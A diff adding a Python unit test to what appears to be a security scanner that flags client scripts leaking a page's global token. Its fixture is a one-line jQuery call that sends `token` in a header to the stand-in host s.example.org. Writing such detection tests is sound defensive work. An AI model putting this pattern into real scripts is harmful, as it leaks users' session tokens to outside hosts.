@@ -80,6 +80,21 @@ def test_a_script_library_with_no_session_is_not_parsed() -> None:
     assert ir.sources and ir.url_uses
 
 
+def test_a_resource_script_that_may_send_a_page_s_global_is_parsed_though_it_names_no_session() -> None:
+    """AF-4: `fetch(url + token)` in a resource folder's script sends what the loading page keeps
+    in `token`; a script elsewhere (no page loads it by that name), or that declares its own
+    `token`, still says nothing."""
+    code = "function share(id) { $.ajax({url: 'https://s.example.org/' + id, headers: {T: token}}); }\n"
+    loud = _scan_job("staticresources/kit/js/share.js", FileKind.JAVASCRIPT, code)
+    elsewhere = _scan_job("scripts/share.js", FileKind.JAVASCRIPT, code)
+    own = _scan_job("staticresources/kit/js/own.js", FileKind.JAVASCRIPT, "var token = 'x';\n" + code)
+    assert not is_quiet_script_or_metadata(loud, code)
+    assert is_quiet_script_or_metadata(elsewhere, code)
+    assert is_quiet_script_or_metadata(own, own.data.decode())
+    [ir] = lower_job(loud, ReadLimits()).files
+    assert [u.sources for u in ir.url_uses] == [("client:global:token",)]
+
+
 def test_quiet_metadata_keeps_its_name_and_type_and_credentials_are_always_read() -> None:
     field = _scan_job("objects/Acct__c/fields/Tier__c.field-meta.xml", FileKind.METADATA,
                       "<CustomField><fullName>Tier__c</fullName></CustomField>", "CustomField")
